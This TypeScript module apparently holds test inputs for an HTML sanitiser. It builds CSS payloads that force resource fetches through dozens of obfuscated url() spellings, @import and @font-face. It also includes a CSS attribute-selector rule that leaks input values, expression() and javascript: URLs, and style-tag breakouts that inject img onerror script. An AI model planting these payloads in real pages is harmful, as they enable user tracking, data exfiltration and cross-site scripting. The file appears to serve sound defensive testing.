import { each, family } from './payload.ts'

/** Declarations that name a resource to fetch, in many spellings. */
const DECLARATIONS: Readonly<Record<string, string>> = {
  background: 'background:url(U)',
  'background-quoted': "background-image:url('U')",
  'background-no-repeat': 'background:red url(U) no-repeat,url(U2)',
  'background-set': "background-image:image-set('U' 1x)",
  'background-old-set': 'background-image:-webkit-image-set(url(U) 1x)',
  'background-fade': 'background-image:cross-fade(url(U),url(U2),50%)',
  'background-important': 'background:url(U)!important',
  'escaped-letter': 'background:u\\72l(U)',
  'escaped-long': 'background:\\000075 rl(U)',
  'escaped-property': 'b\\61 ckground:url(U)',
  'comment-between': 'background:/**/url(/**/U)/**/',
  'string-break': "background:url('U\n');background:url(U)",
  'in-a-variable': '--x:url(U);background:var(--x)',
  'in-a-fallback': 'background:var(--none,url(U))',
  'in-an-attribute': 'background:attr(title type(<url>))',
  list: 'display:list-item;list-style-image:url(U)',
  border: 'border:9px solid;border-image:url(U) 9',
  cursor: 'cursor:url(U),auto',
  mask: 'width:9px;height:9px;-webkit-mask-image:url(U);mask:url(U)',
  filter: 'filter:url(U#f)',
  clip: 'clip-path:url(U#c)',
  shape: 'float:left;shape-outside:url(U)',
  offset: 'offset-path:url(U#p)',
  content: 'content:url(U)',
  behaviour: 'behavior:url(U);-moz-binding:url(U#x)',
  'src-function': "background:src('U')",
}
const declared = each('style', Object.keys(DECLARATIONS), (key, { url }) => {
  const text = (DECLARATIONS[key] ?? '').replaceAll('U2', `${url}.gif`).replaceAll('U', `${url}.png`)
  return `<p title="${url}.png" style="${text}">p</p>`
})

const sheets = family('sheet', {
  background: ({ url }) => `<style>p{background:url(${url}.png)}</style><p>p</p>`,
  import: ({ url }) => `<style>@import url(${url}.css);</style>`,
  'import-string': ({ url }) => `<style>@\\69mport "${url}.css" screen;</style>`,
  font: ({ url }) => `<style>@font-face{font-family:f;src:url(${url}.woff)}p{font-family:f}</style><p>p</p>`,
  'attribute-leak': ({ url }) => `<style>main[aria-labelledby] input[value^='1']{background:url(${url}.png)}</style>`,
  expression: ({ js }) => `<p style="width:expression(${js})">p</p><style>p{x:expression(${js})}</style>`,
  'javascript-address': ({ js }) => `<p style="background:url(javascript:${js})">p</p>`,
  'unclosed-in-attribute': ({ js }) => `<p style="x:'</style><img src=x: onerror=${js}>">p</p>`,
  'element-in-attribute': ({ js }) => `<style><p title="</style><img src=x: onerror=${js}>"></style>`,
})

export const STYLES = [...declared, ...sheets]
